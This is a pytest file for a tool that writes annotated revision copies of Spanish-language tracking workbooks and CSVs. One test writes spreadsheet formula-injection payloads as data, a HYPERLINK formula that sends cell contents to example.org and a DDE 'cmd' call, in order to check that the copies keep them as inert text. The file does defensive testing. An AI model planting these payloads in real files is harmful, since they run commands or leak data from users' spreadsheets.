"""pipeline/workbooks/annotate.py: the annotated copies of the input workbooks with problems."""

from __future__ import annotations

import hashlib
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from pipeline.workbooks.annotate import FILL, SUMMARY_SHEET, write_revision
from pipeline.ingest import Entity
from pipeline.workbooks.validation import check_entity
from tests.messy_workbook import ERRORS, write_entity
from tests.ingest.test_execution import HEADER, write_xlsx
from tests.workbooks.test_validation import broken_entity


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _revise(folder: Path, out: Path, period: str = "2024-T3") -> tuple[list[Path], object]:
    check = check_entity(Entity(folder.name, folder), period, today=date(2025, 1, 15))
    return write_revision(folder, out / folder.name / "revision", check.problems, check.warnings), check


def _red(cell) -> bool:
    return cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb.endswith(FILL)


def test_the_copy_marks_each_faulty_cell_and_lists_every_problem(tmp_path):
    folder = broken_entity(tmp_path / "ejemplo")
    original = _digest(folder / "seguimiento.xlsx")
    written, check = _revise(folder, tmp_path / "out")
    copy = tmp_path / "out" / "ejemplo" / "revision" / "seguimiento.xlsx"
    assert written == [copy]
    assert _digest(folder / "seguimiento.xlsx") == original  # the input is never modified
    book = load_workbook(copy)
    assert book.sheetnames[0] == SUMMARY_SHEET and book.active.title == SUMMARY_SHEET
    sheet = book["Seguimiento"]
    for (row, heading), found in ERRORS.items():
        letter = "ABCDEFG"["Código,Nombre del indicador,Año,Trimestre,Valor ejecutado".split(",").index(heading)]
        # a merged cell's problem is shown on the range's first cell, which Excel shows for it
        address = "A16" if (row, letter) == (17, "A") else f"{letter}{row}"
        cell = sheet[address]
        assert _red(cell), address
        assert cell.comment is not None and cell.comment.author == "pei-report", address
        assert found in cell.comment.text, (address, cell.comment.text)
    assert "Fila 17" in sheet["A16"].comment.text
    assert not _red(sheet["B6"]) and sheet["B6"].comment is None
    assert sheet["E11"].value == "=E10+10"  # formulas kept as written
    summary = book[SUMMARY_SHEET]
    rows = [r for r in summary.iter_rows(values_only=True)]
    header = rows.index(("Tipo", "Hoja", "Fila", "Columna", "Celda", "Qué se encontró", "Qué se esperaba", "Qué hacer"))
    listed = [r for r in rows[header + 1 :] if r[0] == "Problema"]
    ours = [p for p in check.problems if Path(p.file).name == "seguimiento.xlsx"]
    assert len(listed) == len(ours) == 8
    links = {c.value: c.hyperlink.location for c in summary["E"] if c.hyperlink is not None}
    assert links["E11"] == "'Seguimiento'!E11" and links["A17"] == "'Seguimiento'!A16"


def test_a_seguimiento_folder_gives_one_copy_per_file_with_problems(tmp_path):
    from tests.conftest import SAMPLE

    folder = tmp_path / "secretaria-general"
    (folder / "seguimiento").mkdir(parents=True)
    for name in ("plan.yaml", "configuracion.yaml"):
        (folder / name).write_bytes((SAMPLE / name).read_bytes())
    write_xlsx(folder / "seguimiento", [["IS-545", 2024, 1, "mucho", None]], name="a.xlsx")
    write_xlsx(folder / "seguimiento", [["IS-999", 2024, 1, 3, None]], name="b.xlsx")
    write_xlsx(folder / "seguimiento", [["IS-321", 2024, 1, 3, None]], name="c.xlsx")
    written, _ = _revise(folder, tmp_path / "out")
    revision = tmp_path / "out" / "secretaria-general" / "revision"
    assert written == [revision / "seguimiento" / "a.xlsx", revision / "seguimiento" / "b.xlsx"]
    assert _red(load_workbook(written[0])["Seguimiento"]["D2"])
    assert _red(load_workbook(written[1])["Seguimiento"]["A2"])
    assert HEADER[0] == load_workbook(written[1])["Seguimiento"]["A1"].value


def test_a_csv_gets_a_workbook_with_its_content_and_the_same_marks(tmp_path):
    folder = write_entity(tmp_path / "ejemplo", fixed=True)
    (folder / "seguimiento.xlsx").unlink()
    csv = folder / "seguimiento.csv"
    csv.write_text("Código;Año;Trimestre;Valor ejecutado\nP-01;2024;1;45\nN-02;2024;2;N/A\n", encoding="utf-8")
    original = _digest(csv)
    written, _ = _revise(folder, tmp_path / "out")
    assert written == [tmp_path / "out" / "ejemplo" / "revision" / "seguimiento.revision.xlsx"]
    assert _digest(csv) == original
    book = load_workbook(written[0])
    data = book[book.sheetnames[1]]
    assert data["A1"].value == "Código" and data["D3"].value == "N/A"
    assert _red(data["D3"]) and "«N/A»" in data["D3"].comment.text


def test_a_new_check_replaces_the_revision_folder(tmp_path):
    folder = broken_entity(tmp_path / "ejemplo")
    revision = tmp_path / "out" / "ejemplo" / "revision"
    _revise(folder, tmp_path / "out")
    (revision / "viejo.xlsx").write_bytes(b"stale")
    _revise(folder, tmp_path / "out")
    assert sorted(p.name for p in revision.iterdir()) == ["seguimiento.xlsx"]
    write_entity(folder, fixed=True)
    written, check = _revise(folder, tmp_path / "out")
    assert check.ok and written == [] and not revision.exists()
    assert sorted(p.name for p in (tmp_path / "out" / "ejemplo").iterdir()) == []


def test_a_file_that_is_not_a_workbook_gets_a_summary_only(tmp_path):
    folder = write_entity(tmp_path / "ejemplo", fixed=True)
    (folder / "seguimiento.xlsx").write_bytes(b"esto no es un libro")
    written, _ = _revise(folder, tmp_path / "out")
    book = load_workbook(written[0])
    assert book.sheetnames == [SUMMARY_SHEET]
    assert any("no se puede abrir" in str(c.value) for row in book[SUMMARY_SHEET].iter_rows() for c in row)


def test_warnings_are_marked_in_yellow_and_listed_after_the_problems(tmp_path):
    from pipeline.workbooks.annotate import WARNING_FILL, annotated_workbook
    from pipeline.errors import Problem

    path = write_xlsx(tmp_path, [["IS-545", 2024, 1, "mucho", None]])
    problem = Problem("«mucho»", "un número", row=2, column="valor", column_letter="D", file=path, sheet="Seguimiento")
    warning = Problem("la columna «Soporte» con datos", "columnas que se leen", row=1, column="Soporte",
                      column_letter="F", file=path, sheet="Seguimiento", hint="Llámela «comentario».")
    book = annotated_workbook(path, [problem], [warning])
    cell = book["Seguimiento"]["F1"]
    assert cell.fill.fgColor.rgb.endswith(WARNING_FILL) and cell.comment.text.startswith("Aviso: ")
    kinds = [r[0] for r in book[SUMMARY_SHEET].iter_rows(min_row=7, values_only=True)]
    assert kinds == ["Problema", "Aviso"]


def test_a_problem_without_its_sheet_is_marked_on_the_sheet_the_reader_reads(tmp_path):
    """A seguimiento/ file's warning may not name its sheet: it goes on the sheet named
    Seguimiento (the one the reader reads first), not only in the summary."""
    from openpyxl import Workbook

    from pipeline.errors import Problem

    folder = tmp_path / "e"
    folder.mkdir()
    book = Workbook()
    book.active.title = "Portada"
    data = book.create_sheet("Seguimiento")
    data.append(HEADER)
    data.append(["IS-321", 2024, 1, 80, None])
    book.save(folder / "dep.xlsx")
    warning = Problem("algo raro", "otra cosa", row=2, column="valor", column_letter="D", file=folder / "dep.xlsx")
    problem = Problem("«x»", "un número", row=2, column="anio", column_letter="B", file=folder / "dep.xlsx")
    (copy,) = write_revision(folder, tmp_path / "out", [problem], [warning])
    marked = load_workbook(copy)["Seguimiento"]
    assert _red(marked["B2"]) and marked["D2"].comment is not None


def test_texts_that_look_like_formulas_stay_texts_in_the_copy_and_its_summary(tmp_path):
    """A CSV cell, a sheet's name or a value quoted in a problem that begins with «=» is written as
    text: the copy runs nothing the office did not write as a formula itself."""
    from pipeline.workbooks.annotate import annotated_workbook

    link, command = '=HYPERLINK("http://example.org/?d="&A1,"Ver")', "=cmd|' /C calc'!A0"
    folder = write_entity(tmp_path / "ejemplo", fixed=True)
    (folder / "seguimiento.xlsx").unlink()
    csv = folder / "seguimiento.csv"
    csv.write_text(f'Código;Año;Trimestre;Valor ejecutado;Observaciones\nP-01;2024;1;{link.replace(chr(34), chr(34) * 2).join(chr(34) * 2)};"{command}"\n',
                   encoding="utf-8")
    written, check = _revise(folder, tmp_path / "out")
    assert any(link in p.found for p in check.problems)
    sheet_name = "=cmd|' calc'!A0"
    path = write_xlsx(tmp_path, [["IS-545", 2024, 1, command, None]], title=sheet_name)
    from pipeline.errors import Problem

    problem = Problem(f"«{command}»", "un número", row=2, column="valor", column_letter="D", file=path, sheet=sheet_name)
    annotated_workbook(path, [problem]).save(tmp_path / "copia.xlsx")
    for copy in (written[0], tmp_path / "copia.xlsx"):
        book = load_workbook(copy)
        formulas = [f"{s.title}!{c.coordinate}" for s in book.worksheets if s.title != sheet_name
                    for row in s.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], copy
    data = load_workbook(written[0])[load_workbook(written[0]).sheetnames[1]]
    assert data["D2"].value == link and data["E2"].value == command
    summary = load_workbook(tmp_path / "copia.xlsx")[SUMMARY_SHEET]
    assert sheet_name in [c.value for c in summary["B"]]


def test_characters_xml_cannot_hold_are_shown_escaped_in_the_copy_instead_of_failing_it(tmp_path):
    """A CSV comment with NUL or U+FFFE (refused by the reader) still gets its marked copy."""
    folder = write_entity(tmp_path / "ejemplo", fixed=True)
    (folder / "seguimiento.xlsx").unlink()
    (folder / "seguimiento.csv").write_text(
        "Código;Año;Trimestre;Valor ejecutado;Observaciones\nP-01;2024;1;45;Avance\ufffe\nN-02;2024;1;40;Sin\x00 novedad\n",
        encoding="utf-8",
    )
    written, check = _revise(folder, tmp_path / "out")
    assert len([p for p in check.problems if p.column == "Observaciones"]) == 2
    data = load_workbook(written[0])[load_workbook(written[0]).sheetnames[1]]
    assert data["E2"].value == "Avance\\ufffe" and data["E3"].value == "Sin\\u0000 novedad"
    assert _red(data["E2"]) and "U+FFFE" in data["E2"].comment.text
